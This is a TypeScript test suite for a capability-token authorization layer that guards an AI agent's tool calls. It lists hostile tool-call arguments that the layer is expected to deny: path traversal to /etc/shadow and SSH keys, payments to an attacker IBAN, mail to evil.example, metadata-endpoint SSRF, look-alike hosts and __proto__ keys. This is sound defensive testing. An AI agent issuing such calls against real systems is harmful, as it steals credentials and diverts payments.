/**
 * Attack suite: calls outside the token's authority, spelled as an attacker would — values in
 * arguments the role words do not know, nested, listed, percent-encoded, with look-alike hosts,
 * reserved keys. Each case asserts the denial (verdict AND reason code) and that its in-bounds
 * twin, the same call with an allowed value, is not denied. Run against the library and against
 * the sidecar (the same cases through `POST /v1/authorize`).
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { ReasonCode } from '../../src/action/reasons.ts';
import { generateSigningKey, Keyring } from '../../src/capability/keys.ts';
import { mintToken } from '../../src/capability/token.ts';
import { CapabilityGraph } from '../../src/capability/graph.ts';
import { createFence } from '../../src/index.ts';
import { harness, type Harness } from '../adapters/http/helpers.ts';
import { fixedGate } from '../fence/fixtures.ts';
import { ATTACK_CLAIMS, ATTACK_TOOLS, ATTACKER_IBAN, IBAN, ROOT } from './catalog.ts';

interface Case {
  readonly name: string;
  readonly tool: string;
  readonly attack: Record<string, unknown> | string;
  readonly verdict: 'deny' | 'revise';
  readonly code: ReasonCode;
  readonly twin: Record<string, unknown>;
}

const IN = `${ROOT}/report.md`;
const hostileKey = (key: string) => `{"payee":"${IBAN}","fee":5,"memo":{"${key}":{"payee":"${ATTACKER_IBAN}"}}}`;

// prettier-ignore
const CASES: readonly Case[] = [
  // paths
  { name: 'a second path in a list', tool: 'read_multiple_files', attack: { paths: [IN, '/etc/shadow'] }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { paths: [IN, `${ROOT}/b.md`] } },
  { name: 'a path in a nested list', tool: 'read_multiple_files', attack: { paths: [[IN], ['/etc/shadow']] }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { paths: [[IN], [`${ROOT}/b.md`]] } },
  { name: '.. climbing out of the prefix', tool: 'read_text_file', attack: { path: `${ROOT}/../../../etc/passwd` }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { path: `${ROOT}/sub/../report.md` } },
  { name: 'percent-encoded separators', tool: 'read_text_file', attack: { path: `${ROOT}/..%2f..%2f..%2fetc/passwd` }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { path: IN } },
  { name: 'a NUL byte', tool: 'read_text_file', attack: { path: `${ROOT}/a\u0000/../../../../etc/passwd` }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { path: IN } },
  { name: 'a file: URL', tool: 'read_text_file', attack: { path: 'file:///etc/passwd' }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { path: `file://${IN}` } },
  { name: 'a home path', tool: 'read_text_file', attack: { path: '~/.ssh/id_rsa' }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { path: IN } },
  { name: 'a sibling with the same prefix', tool: 'read_text_file', attack: { path: `${ROOT}-secret/a` }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { path: IN } },
  { name: 'a destination nothing names', tool: 'move_file', attack: { source: IN, destination: '/tmp/exfil.md' }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { source: IN, destination: `${ROOT}/moved.md` } },
  { name: 'a source nothing names', tool: 'move_file', attack: { source: '/root/.ssh/id_rsa', destination: `${ROOT}/k` }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { source: IN, destination: `${ROOT}/k` } },
  { name: 'a climbing relative source', tool: 'move_file', attack: { source: '../../../etc/passwd', destination: `${ROOT}/k` }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { source: 'notes/a.md', destination: `${ROOT}/k` } },
  { name: 'a path under an extra key', tool: 'search_files', attack: { path: ROOT, pattern: '*.md', options: { root: '/etc' } }, verdict: 'deny', code: 'constraint.path-outside-prefix', twin: { path: ROOT, pattern: '*.md', excludePatterns: ['dist/**', 'node_modules'] } },
  // payments
  { name: 'another payee', tool: 'pay_invoice', attack: { payee: ATTACKER_IBAN, fee: 5 }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { payee: 'de89 3704 0044 0532 0130 00', fee: 5, memo: 'invoice 42 for October' } },
  { name: 'a payee nested in an extra object', tool: 'pay_invoice', attack: { payee: IBAN, fee: 5, split: [{ to: ATTACKER_IBAN, fee: 1 }] }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { payee: IBAN, fee: 5, split: [{ to: IBAN, fee: 1 }] } },
  { name: 'a crypto address as payee', tool: 'pay_invoice', attack: { payee: '0x52908400098527886E0F7030069857D2E4169EE7', fee: 5 }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { payee: IBAN, fee: 5 } },
  { name: 'an IBAN in the memo', tool: 'pay_invoice', attack: { payee: IBAN, fee: 5, memo: ATTACKER_IBAN }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { payee: IBAN, fee: 5, memo: 'rent' } },
  { name: 'an amount in an unnamed number', tool: 'pay_invoice', attack: { payee: IBAN, n: 5000 }, verdict: 'deny', code: 'constraint.kind-unknown', twin: { payee: IBAN, fee: 50 } },
  { name: 'money written with a currency', tool: 'pay_invoice', attack: { payee: IBAN, fee: '5000 EUR' }, verdict: 'revise', code: 'constraint.amount-over-max', twin: { payee: IBAN, fee: '50 EUR' } },
  { name: 'a number in an exponent', tool: 'pay_invoice', attack: { payee: IBAN, fee: '1e9' }, verdict: 'deny', code: 'constraint.value-malformed', twin: { payee: IBAN, fee: '99.5' } },
  // messages
  { name: 'a recipient nothing names', tool: 'notify_contact', attack: { party: 'eve@evil.example', body: 'hi' }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { party: 'Bob@Example.com', body: 'hi' } },
  { name: 'a mailto: recipient', tool: 'notify_contact', attack: { party: 'mailto:eve@evil.example' }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { party: 'mailto:bob@example.com' } },
  { name: 'a phone_number (an "identifier" by its name)', tool: 'notify_contact', attack: { phone_number: '+44 20 7946 0958' }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { phone_number: '+15550100199' } },
  { name: 'a channel', tool: 'notify_contact', attack: { channel: '#leaks' }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { channel: '#team' } },
  { name: 'an opaque handle', tool: 'notify_contact', attack: { party: 'mallory' }, verdict: 'deny', code: 'constraint.kind-unknown', twin: { party: 'bob@example.com', body: 'the draft is ready' } },
  { name: 'an address list in text nothing names', tool: 'notify_contact', attack: { party: 'bob@example.com, eve@evil.example' }, verdict: 'deny', code: 'constraint.value-not-allowed', twin: { party: 'Bob@Example.com', body: 'cc eve@evil.example when you can' } },
  { name: 'a webhook instead of a recipient', tool: 'notify_contact', attack: { webhook: 'https://hooks.evil.example/x', body: 'hi' }, verdict: 'deny', code: 'constraint.destination-unbound', twin: { party: 'bob@example.com', body: 'see https://example.com/status' } },
  // URLs
  { name: 'a backslash before @', tool: 'fetch_page', attack: { url: 'https://example.com\\@evil.example/' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'https://example.com/@evil.example' } },
  { name: 'userinfo', tool: 'fetch_page', attack: { url: 'https://example.com@evil.example/' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'https://example.com/' } },
  { name: 'one slash after the scheme', tool: 'fetch_page', attack: { url: 'https:/evil.example/' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'https://www.example.com/' } },
  { name: 'a Cyrillic look-alike host', tool: 'fetch_page', attack: { url: 'https://exаmple.com/' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'HTTPS://EXAMPLE.COM./a' } },
  { name: 'a suffix host', tool: 'fetch_page', attack: { url: 'https://example.com.evil.example/' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'https://api.example.com/' } },
  { name: 'a hex IP literal', tool: 'fetch_page', attack: { url: 'http://0x7f.1/' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'http://example.com:8080/' } },
  { name: 'an IP literal not listed', tool: 'fetch_page', attack: { url: 'http://169.254.169.254/latest/meta-data' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'https://example.com/latest' } },
  { name: 'percent-encoding in the host', tool: 'fetch_page', attack: { url: 'https://evil%2eexample/' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'https://example.com/%2e' } },
  { name: 'a javascript: URL', tool: 'fetch_page', attack: { url: 'javascript:fetch(1)' }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { url: 'example.com/page' } },
  { name: 'a bare host in an unnamed argument', tool: 'post_webhook', attack: { webhook: 'evil.example', payload: { ok: true } }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { webhook: 'hooks.example.com', payload: { ok: true } } },
  { name: 'a URL deep in the payload', tool: 'post_webhook', attack: { webhook: 'https://example.com/h', payload: { a: [{ next: 'https://evil.example/x' }] } }, verdict: 'deny', code: 'constraint.url-domain-not-allowed', twin: { webhook: 'https://example.com/h', payload: { a: [{ next: 'https://example.com/x' }] } } },
  // reserved keys
  { name: 'a __proto__ key', tool: 'pay_invoice', attack: hostileKey('__proto__'), verdict: 'deny', code: 'call.malformed', twin: { payee: IBAN, fee: 5, memo: { note: { payee: IBAN } } } },
  { name: 'a constructor key', tool: 'pay_invoice', attack: hostileKey('constructor'), verdict: 'deny', code: 'call.malformed', twin: { payee: IBAN, fee: 5 } },
  { name: 'a prototype key', tool: 'pay_invoice', attack: hostileKey('prototype'), verdict: 'deny', code: 'call.malformed', twin: { payee: IBAN, fee: 5 } },
];

type Decide = (tool: string, args: Record<string, unknown> | string) => Promise<{ verdict: string; reasons: { code: string; message: string }[] }>;

function run(target: string, decide: () => Decide): void {
  for (const c of CASES) {
    it(`${target}: ${c.name}`, async () => {
      const attacked = await decide()(c.tool, c.attack);
      assert.deepEqual([attacked.verdict, attacked.reasons[0]?.code], [c.verdict, c.code], JSON.stringify(attacked.reasons));
      for (const r of attacked.reasons) {
        assert.ok(r.message.length <= 512, 'capped');
        assert.ok(!/evil|ssh|shadow|passwd|GB82|mallory|5000|169\.254/.test(r.message), `no value echoed: ${r.message}`);
      }
      const twin = await decide()(c.tool, c.twin);
      assert.equal(twin.verdict, 'allow', `the in-bounds twin: ${JSON.stringify(twin.reasons)}`);
    });
  }
}

const callText = (tool: string, args: Record<string, unknown> | string) =>
  `{"tool":${JSON.stringify(tool)},"args":${typeof args === 'string' ? args : JSON.stringify(args)}}`;

describe('attack: values outside the token, against the library', () => {
  const issuer = generateSigningKey();
  const graph = CapabilityGraph.builtIn();
  const fence = createFence({ keyring: new Keyring([issuer]), tools: ATTACK_TOOLS, model: fixedGate() });
  const token = mintToken(issuer, { issuer: 'test', now: Math.floor(Date.now() / 1000), ...ATTACK_CLAIMS }, graph);
  run('library', () => async (tool, args) => fence.authorize(JSON.parse(callText(tool, args)), token) as never);
});

describe('attack: values outside the token, against the sidecar', () => {
  let h: Harness;
  let token: string;
  before(async () => {
    h = harness({ fence: { tools: ATTACK_TOOLS } });
    token = await h.mint(ATTACK_CLAIMS);
  });
  after(() => h.app.close());
  run('sidecar', () => async (tool, args) => {
    const response = await h.app.inject({
      method: 'POST',
      url: '/v1/authorize',
      headers: { ...h.auth('authorize'), 'content-type': 'application/json' },
      payload: `{"token":${JSON.stringify(token)},"call":${callText(tool, args)}}`,
    });
    // The HTTP layer may refuse a request body with a __proto__ key before the fence sees it:
    // a refusal with its own code, which the case reads as the malformed call it is.
    if (response.statusCode === 400) {
      const error = response.json().error as { code: string; message: string };
      assert.equal(error.code, 'ERR_INVALID_JSON');
      return { verdict: 'deny', reasons: [{ code: 'call.malformed', message: error.message }] };
    }
    assert.equal(response.statusCode, 200);
    return response.json();
  });
});
